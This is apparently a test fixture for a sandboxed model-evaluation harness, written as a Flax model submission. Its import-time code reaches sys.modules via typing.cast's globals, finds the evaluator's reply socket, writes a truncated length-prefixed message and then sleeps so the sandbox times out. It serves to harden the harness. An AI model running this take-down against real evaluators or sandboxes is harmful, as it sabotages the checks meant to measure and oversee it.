# expect: timeout
# kind: take-down
# attack: find the reply socket (fstat S_ISSOCK over fds > 2), send a header claiming 1000 bytes and only 10 of them, then sleep forever; the evaluator reads without blocking and its trace deadline kills the sandbox
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
MODS = AG("modules")(AG("__globals__")(typing.cast)["sys"])
OS, STAT = MODS["os"], MODS["stat"]
for fd in range(3, 64):
    try:
        if STAT.S_ISSOCK(OS.fstat(fd).st_mode):
            OS.write(fd, (1000).to_bytes(8, "big") + b'{"id": "xx')
    except Exception:
        pass
MODS["time"].sleep(1000)


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(x)
